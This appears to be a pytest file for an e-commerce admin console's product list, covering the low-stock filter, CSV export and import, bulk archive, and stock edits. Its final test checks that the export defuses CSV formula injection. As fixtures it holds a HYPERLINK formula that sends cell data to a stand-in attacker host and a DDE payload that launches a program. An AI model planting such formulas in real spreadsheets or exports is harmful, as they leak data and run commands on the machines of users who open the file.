"""The console's products list on both backends: the low-stock filter, the streamed CSV export
(which imports back), the bulk archive and setting a product's stock."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import httpx
import pytest

from commerce_api.console.pages import exports
from tests import factories
from tests.console.helpers import form_token, page_token, sign_in
from tests.helpers import bearer


@pytest.fixture
async def console(client: httpx.AsyncClient, admin_key: str) -> httpx.AsyncClient:
    assert (await sign_in(client, admin_key)).status_code == 303
    return client


async def _product(client: httpx.AsyncClient, admin_key: str, **fields: Any) -> str:
    product = await factories.create_product(client, admin_key, **fields)
    return str(product["id"])


def _listed(html: str) -> list[str]:
    return re.findall(r'<a href="/dashboard/products/(prod_\w+)">', html)


async def test_low_stock_filter_lists_products_at_or_under_the_threshold(
    console: httpx.AsyncClient, admin_key: str
) -> None:
    empty = await _product(console, admin_key, name="Empty", inventory_count=0)
    five = await _product(console, admin_key, name="Five", inventory_count=5)
    six = await _product(console, admin_key, name="Six", inventory_count=6)
    everything = await console.get("/dashboard/products")
    assert _listed(everything.text) == [empty, five, six]
    low = await console.get("/dashboard/products?low_stock=1")
    assert _listed(low.text) == [empty, five]
    assert "at most 5 units" in low.text
    assert 'id="low_stock" name="low_stock" value="1" checked' in low.text
    assert 'href="/dashboard/products/export?low_stock=1"' in low.text
    named = await console.get("/dashboard/products?low_stock=1&q=fiv")
    assert _listed(named.text) == [five]


def _csv(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text[:2000]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert re.fullmatch(r'attachment; filename="products-\d{8}-\d{6}\.csv"', disposition)
    return list(csv.reader(io.StringIO(response.text.removeprefix("\ufeff"))))


async def test_csv_export_streams_every_product_and_imports_back(
    console: httpx.AsyncClient, admin_key: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exports, "EXPORT_CHUNK", 2)
    ids = [
        await _product(console, admin_key, name=f"Item {n}", price=1.5, inventory_count=n)
        for n in range(4)
    ]
    tricky = await _product(
        console,
        admin_key,
        name='Mug "large", blue',
        description="Line one\nline two",
        price=12,
        inventory_count=9,
    )
    archived = await _product(console, admin_key, name="Gone")
    await console.delete(f"/v1/products/{archived}", headers=bearer(admin_key))

    response = await console.get("/dashboard/products/export")
    header, *rows = _csv(response)
    assert header == ["id", "name", "description", "price", "category", "inventory_count"]
    assert [row[0] for row in rows] == [*ids, tricky]  # the list's order, the archived left out
    assert rows[1] == [ids[1], "Item 1", "", "1.50", "stationery", "1"]
    assert rows[-1] == [
        tricky,
        'Mug "large", blue',
        "Line one\nline two",
        "12.00",
        "stationery",
        "9",
    ]

    low = _csv(await console.get("/dashboard/products/export?low_stock=1"))
    assert [row[0] for row in low[1:]] == ids  # 0 to 3 units; the mug has 9

    # Edited in a spreadsheet and imported back: the id updates the product.
    rows[0][5] = "77"
    edited = io.StringIO()
    csv.writer(edited).writerows([header, *rows])
    token = await page_token(console, "/dashboard/products")
    files = {"file": ("products.csv", "\ufeff" + edited.getvalue(), "text/csv")}
    imported = await console.post(
        "/dashboard/products/import", data={"csrf_token": token}, files=files
    )
    assert imported.status_code == 303, imported.text[:2000]
    assert "created=0" in imported.headers["location"]
    product = await console.get(f"/v1/products/{ids[0]}", headers=bearer(admin_key))
    assert product.json()["inventory_count"] == 77
    mug = (await console.get(f"/v1/products/{tricky}", headers=bearer(admin_key))).json()
    assert (mug["name"], mug["description"], mug["price"]) == (
        'Mug "large", blue',
        "Line one\nline two",
        12,
    )


async def test_bulk_archive_confirms_then_archives_each_and_shows_a_refusal(
    console: httpx.AsyncClient, admin_key: str
) -> None:
    ids = [await _product(console, admin_key, name=f"Old {n}") for n in range(3)]
    await console.delete(f"/v1/products/{ids[2]}", headers=bearer(admin_key))  # already gone
    token = await page_token(console, "/dashboard/products")
    confirm = await console.post(
        "/dashboard/products/bulk",
        data={"csrf_token": token, "action": "archive", "id": ids, "back": "low_stock=1"},
    )
    assert confirm.status_code == 200
    assert "Archive 3 products?" in confirm.text
    assert "Old 0 · 10 in stock" in confirm.text
    for product_id in ids:
        assert f'<input type="hidden" name="id" value="{product_id}">' in confirm.text
    listing = await console.get("/dashboard/products")
    assert _listed(listing.text) == ids[:2]  # nothing changed by the confirmation

    refused = await console.post(
        "/dashboard/products/bulk/run", data={"action": "archive", "id": ids}
    )
    assert refused.status_code == 403  # no CSRF token
    result = await console.post(
        "/dashboard/products/bulk/run",
        data={"csrf_token": form_token(confirm.text), "action": "archive", "id": ids},
    )
    assert result.status_code == 200
    assert "2 done, 1 refused" in result.text
    row = result.text[result.text.index(f">{ids[2]}</code>") :]
    assert ">refused</span>" in row[: row.index("</tr>")]
    assert "not_found" in row[: row.index("</tr>")]
    for product_id in ids[:2]:
        gone = await console.get(f"/v1/products/{product_id}", headers=bearer(admin_key))
        assert gone.status_code == 404
    assert _listed((await console.get("/dashboard/products")).text) == []


async def test_bulk_archive_refuses_more_than_100_products(console: httpx.AsyncClient) -> None:
    token = await page_token(console, "/dashboard/products")
    ids = [f"prod_{n:024d}" for n in range(101)]
    response = await console.post(
        "/dashboard/products/bulk/run", data={"csrf_token": token, "action": "archive", "id": ids}
    )
    assert response.status_code == 400
    assert "Select at most 100 products at a time" in response.text


async def test_set_stock_changes_only_the_stock(console: httpx.AsyncClient, admin_key: str) -> None:
    product_id = await _product(console, admin_key, name="Kettle", price=30, inventory_count=4)
    page = await console.get(f"/dashboard/products/{product_id}")
    assert f'action="/dashboard/products/{product_id}/stock"' in page.text
    token = form_token(page.text)
    done = await console.post(
        f"/dashboard/products/{product_id}/stock",
        data={"csrf_token": token, "inventory_count": "42"},
    )
    assert done.status_code == 303
    assert "Stock set." in (await console.get(done.headers["location"])).text
    product = (await console.get(f"/v1/products/{product_id}", headers=bearer(admin_key))).json()
    assert (product["name"], product["price"], product["inventory_count"]) == ("Kettle", 30, 42)

    for wrong in ("-1", "abc", "", "²", "99999999999"):
        refused = await console.post(
            f"/dashboard/products/{product_id}/stock",
            data={"csrf_token": token, "inventory_count": wrong},
        )
        assert refused.status_code == 400, wrong
        assert "Nothing was saved" in refused.text
    unknown = await console.post(
        "/dashboard/products/prod_nope/stock", data={"csrf_token": token, "inventory_count": "1"}
    )
    assert unknown.status_code == 404
    no_token = await console.post(
        f"/dashboard/products/{product_id}/stock", data={"inventory_count": "0"}
    )
    assert no_token.status_code == 403
    product = (await console.get(f"/v1/products/{product_id}", headers=bearer(admin_key))).json()
    assert product["inventory_count"] == 42


FORMULA_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'=already quoted",
    "'plain quote",
]


async def test_csv_export_neutralises_formulas_and_its_import_restores_them(
    console: httpx.AsyncClient, admin_key: str
) -> None:
    """OWASP's CSV injection: no exported cell starts with =, +, -, @, tab or CR; the export
    imported back as it is changes nothing."""
    made = {
        await _product(console, admin_key, name=name, category=f"={n}", description=desc): name
        for n, (name, desc) in enumerate(
            zip(FORMULA_NAMES, ["\tTabbed", "\rReturn", "-minus", "@at", "", "=x"], strict=True)
        )
    }
    before = {
        pid: (await console.get(f"/v1/products/{pid}", headers=bearer(admin_key))).json()
        for pid in made
    }
    response = await console.get("/dashboard/products/export")
    _header, *rows = _csv(response)
    assert [row[0] for row in rows] == list(made)
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    assert rows[0][1] == "'" + FORMULA_NAMES[0]
    assert rows[4][1] == "''=already quoted"
    assert rows[5][1] == "'plain quote"

    token = await page_token(console, "/dashboard/products")
    files = {"file": ("products.csv", response.content, "text/csv")}
    imported = await console.post(
        "/dashboard/products/import", data={"csrf_token": token}, files=files
    )
    assert imported.status_code == 303, imported.text[:2000]
    assert "created=0" in imported.headers["location"]
    for pid, name in made.items():
        after = (await console.get(f"/v1/products/{pid}", headers=bearer(admin_key))).json()
        assert after["name"] == name
        assert {k: after[k] for k in ("name", "description", "category", "price")} == {
            k: before[pid][k] for k in ("name", "description", "category", "price")
        }
